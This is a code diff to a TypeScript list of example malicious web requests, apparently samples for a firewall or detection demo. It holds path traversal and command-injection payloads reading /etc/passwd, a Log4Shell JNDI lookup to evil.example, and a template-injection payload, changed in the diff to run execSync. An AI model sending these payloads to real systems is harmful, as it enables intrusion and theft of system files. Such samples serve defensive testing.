@@ -37,6 +37,6 @@ export const examples: readonly Example[] = [
   get(text.traversal, '/download?file=../../../../etc/passwd'),
   post(text.command, '/tools/ping', 'host=127.0.0.1; cat /etc/passwd'),
   get(text.lookup, '/', `${browser}\nX-Api-Version: \${jndi:ldap://evil.example/a}`),
-  post(text.template, '/profile', "signature={{constructor.constructor('return process')().exit()}}"),
+  post(text.template, '/profile', "signature={{require('child_process').execSync('cat /etc/passwd')}}"),
   get(text.scanner, '/', 'User-Agent: sqlmap/1.8\nAccept: */*'),
 ];
